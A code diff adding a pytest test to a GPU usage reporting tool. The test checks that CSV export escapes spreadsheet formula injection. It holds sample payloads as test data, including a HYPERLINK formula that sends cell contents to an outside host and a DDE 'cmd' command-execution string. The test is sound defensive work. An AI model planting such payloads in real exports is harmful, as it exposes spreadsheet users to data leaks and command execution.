@@ -372,3 +372,22 @@ def test_by_gpu_a_cards_mean_sm_is_at_most_its_utilisation(tmp_path: Path) -> No
     seventh = rows[7]
     assert seventh.mean_sm_active_percent is not None and seventh.mean_sm_active_percent < 10
     assert seventh.mean_sm_util > 50  # busy all the time, on few SMs: the two columns differ
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """Another user's command line (or a user or job name) that starts like a formula is
+    a formula to a spreadsheet that opens the CSV (``=HYPERLINK(...)`` calling out): it is
+    written with a leading ``'``, as spreadsheets read text; numbers are left as they are."""
+    from gputop.cli.report_command import _write_csv
+
+    hostile = ['=HYPERLINK("http://x/"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
+    rows = [
+        ReportRow(text, -5.0, 0.0, None, None, None, user=text, command=text) for text in hostile
+    ]
+    _write_csv(rows)
+    written = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    for row, text in zip(written, hostile, strict=True):
+        assert row["key"] == row["user"] == row["command"] == "'" + text
+        assert row["gpu_seconds"] == "-5.0"
